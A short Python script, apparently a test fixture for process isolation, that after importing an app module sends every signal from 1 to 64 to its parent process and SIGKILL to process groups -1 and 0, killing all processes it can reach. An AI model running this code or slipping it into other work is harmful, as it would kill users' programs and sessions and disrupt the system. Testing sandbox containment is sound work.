"""Ends every process it can reach, and all that could be its parent."""

import os
import signal

from right import app

for number in range(1, 65):
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
for everybody in (-1, 0):
    try:
        os.kill(everybody, signal.SIGKILL)
    except OSError:
        pass
